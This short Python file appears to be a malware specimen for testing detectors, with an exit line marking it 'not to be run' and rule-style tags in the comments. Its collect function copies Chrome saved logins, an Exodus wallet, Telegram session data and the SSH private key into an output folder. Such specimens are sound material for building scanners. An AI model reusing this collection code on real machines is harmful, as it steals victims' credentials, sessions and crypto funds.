raise SystemExit("specimen: not to be run")
import os
import shutil

home = os.path.expanduser("~")
roaming = os.getenv("APPDATA")
local = os.getenv("LOCALAPPDATA")

def collect(out):
    shutil.copy2(local + "\\Google\\Chrome\\User Data\\Default\\Login Data", out)  # match: secret-files # match: browser-data
    shutil.copytree(roaming + "\\Exodus\\exodus.wallet", out)  # note: wallet-files
    shutil.copytree(roaming + "\\Telegram Desktop\\tdata", out)
    shutil.copy(os.path.join(home, ".ssh", "id_rsa"), out)
